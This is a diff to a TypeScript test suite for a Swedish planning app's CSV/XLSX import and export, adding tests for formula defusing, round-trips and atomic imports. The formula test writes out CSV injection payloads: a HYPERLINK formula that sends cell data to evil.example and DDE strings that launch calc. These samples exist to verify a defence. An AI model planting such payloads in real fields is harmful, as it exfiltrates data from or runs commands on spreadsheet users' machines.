@@ -192,7 +192,8 @@ describe.each(STORAGES)('import and export (%s)', (storage) => {
       await post('/api/import/indicator-outcomes/preview?year=2015&format=csv', [header, ...rows].join('\n')),
       400,
     );
-    expect(coded(many.issue)).toEqual({ code: 'tooManyRows', count: 10_001, max: 10_000 });
+    // Reading stops at the first row past the limit, so the file is not counted to its end.
+    expect(coded(many.issue)).toEqual({ code: 'tooManyRows', max: 10_000 });
 
     const large = await failureOf(await post(path, new Uint8Array(5 * 1024 * 1024 + 1)), 413);
     expect(coded(large.issue)).toEqual({ code: 'tooLarge', max: 5 * 1024 * 1024 });
@@ -318,6 +319,141 @@ describe.each(STORAGES)('import and export (%s)', (storage) => {
     expect(await assignmentsOnServer()).toEqual(before);
   });
 
+  it('defuses formulas in every exported CSV, in Swedish Excel dialect, and reads its own export back unchanged', async () => {
+    // What an attacker types into fields a spreadsheet user later opens (OWASP's starts: = + - @ tab CR).
+    const hostile = {
+      title: '=HYPERLINK("http://evil.example/?"&A1,"Klicka här")',
+      responsiblePerson: "+cmd|' /C calc'!A0",
+      decisionRef: "@SUM(1+1)*cmd|' /C calc'!A0",
+      description: "-2+3+cmd|' /C calc'!A0",
+      // A line break after the formula: papaparse's own default pattern lets this one through.
+      progressNote: '=1+1\nandra raden; med semikolon',
+    };
+    const csv = Papa.unparse({
+      fields: [
+        'id',
+        'title',
+        'department',
+        'startDate',
+        'endDate',
+        'status',
+        'responsiblePerson',
+        'decisionRef',
+        'description',
+        'progressNote',
+      ],
+      data: [
+        [
+          'formel-1',
+          hostile.title,
+          'hr',
+          '2015-03-01',
+          '2015-10-31',
+          'pågår',
+          hostile.responsiblePerson,
+          hostile.decisionRef,
+          hostile.description,
+          hostile.progressNote,
+        ],
+      ],
+    });
+    const applied = await post('/api/import/assignments/apply?year=2015&format=csv&mode=all', csv);
+    expect(applied.status).toBe(200);
+    expect(await applied.json()).toEqual({ applied: 1, skipped: 0 });
+    expect((await assignmentsOnServer()).find((a) => a.id === 'formel-1')).toMatchObject(hostile);
+
+    const get = (path: string, username = 'lasare') =>
+      fetch(`${server.url}${path}`, { headers: { authorization: `Bearer ${tokens[username]}` } });
+    const exported = new Uint8Array(
+      await (await get('/api/export/assignments?year=2015&format=csv')).arrayBuffer(),
+    );
+    // Swedish Excel's dialect: a UTF-8 byte-order mark, ";" between fields, CRLF line ends.
+    expect([...exported.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    // The decoder drops the byte-order mark checked above.
+    const text = new TextDecoder().decode(exported);
+    expect(text.split('\r\n')[0]).toBe(
+      'id;title;department;startDate;endDate;status;responsiblePerson;decisionRef;description;progressNote',
+    );
+    const parsed = Papa.parse<Record<string, string>>(text, {
+      header: true,
+      delimiter: ';',
+      skipEmptyLines: true,
+    });
+    const row = parsed.data.find((r) => r.id === 'formel-1');
+    // Every hostile cell starts with a quote: a spreadsheet shows it as text and runs nothing.
+    for (const field of Object.keys(hostile) as (keyof typeof hostile)[]) {
+      expect(row?.[field]).toBe(`'${hostile[field]}`);
+    }
+    // No cell of the file starts like a formula (a negative number is no formula).
+    const cells = parsed.data.flatMap((r) => Object.values(r));
+    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-\d+(,\d+)?$/.test(cell))).toEqual([]);
+
+    // Round trip: the export imports back as the same text, without the quotes it added.
+    const roundTrip = await previewOf(
+      await post('/api/import/assignments/preview?year=2015&format=csv', exported),
+    );
+    expect(roundTrip.invalid).toBe(0);
+    const cellsBack = roundTrip.rows.find((r) => r.cells.id === 'formel-1')?.cells;
+    expect(cellsBack).toMatchObject({
+      title: hostile.title,
+      responsibleperson: hostile.responsiblePerson,
+      decisionref: hostile.decisionRef,
+      description: hostile.description,
+      progressnote: hostile.progressNote,
+    });
+
+    // The audit log's CSV goes through the same writer: same dialect, formulas defused.
+    const audit = await get('/api/audit?from=2000-01-01&to=2000-12-31&format=csv', 'kommunchef');
+    const auditBytes = new Uint8Array(await audit.arrayBuffer());
+    expect([...auditBytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    expect(new TextDecoder().decode(auditBytes)).toBe('at;userId;userName;action;document;detail\r\n');
+
+    // XLSX: a value starting with "=" is a text cell, never a formula.
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(
+      await (await get('/api/export/assignments?year=2015&format=xlsx')).arrayBuffer(),
+    );
+    const sheet = workbook.worksheets[0] as ExcelJS.Worksheet;
+    const header = (sheet.getRow(1).values as unknown[]).slice(1);
+    let found = false;
+    sheet.eachRow((r) => {
+      if (r.getCell(1).value !== 'formel-1') return;
+      found = true;
+      const titleCell = r.getCell(header.indexOf('title') + 1);
+      expect(titleCell.type).toBe(ExcelJS.ValueType.String);
+      expect(titleCell.value).toBe(hostile.title);
+      expect(titleCell.formula).toBeUndefined();
+    });
+    expect(found).toBe(true);
+  });
+
+  it('applies an all-or-nothing import as one stored update, so a crash cannot leave half of it', async () => {
+    // More rows than the old chunks of 200, each a new assignment.
+    const rows = Array.from(
+      { length: 450 },
+      (_, i) => `atom-${i},Atomärt uppdrag ${i},hr,2015-03-01,2015-10-31,pågår,`,
+    );
+    const csv = ['id,title,department,startDate,endDate,status,responsiblePerson', ...rows].join('\n');
+    const response = await post('/api/import/assignments/apply?year=2015&format=csv&mode=all', csv);
+    expect(response.status).toBe(200);
+    expect(await response.json()).toEqual({ applied: 450, skipped: 0 });
+    const seqOf = async (id: string) => {
+      const history = await fetch(
+        `${server.url}/api/documents/${encodeURIComponent(assignmentsDocumentName(2015))}/history?field=${encodeURIComponent(`assignments/${id}/title`)}`,
+        { headers: { authorization: `Bearer ${tokens.kommunchef}` } },
+      );
+      expect(history.status).toBe(200);
+      const { entries } = (await history.json()) as { entries: { seq: number }[] };
+      expect(entries).toHaveLength(1);
+      return entries[0]?.seq;
+    };
+    // The first and the last row came in the same update: there is no state in between to be left in.
+    const first = await seqOf('atom-0');
+    expect(first).toBeGreaterThan(0);
+    expect(await seqOf('atom-449')).toBe(first);
+    expect(await seqOf('atom-225')).toBe(first);
+  });
+
   it('exports assignments as CSV that the import reads back, and the budget as XLSX', async () => {
     const get = (path: string) =>
       fetch(`${server.url}${path}`, { headers: { authorization: `Bearer ${tokens.lasare}` } });
@@ -347,6 +483,7 @@ describe.each(STORAGES)('import and export (%s)', (storage) => {
       header: true,
       skipEmptyLines: true,
     }).data;
-    expect(rows.find((r) => r.month === '2015-03' && r.indicatorId === 'ind-heltid')?.value).toBe('79.5');
+    // Swedish Excel's dialect: a decimal comma.
+    expect(rows.find((r) => r.month === '2015-03' && r.indicatorId === 'ind-heltid')?.value).toBe('79,5');
   });
 });
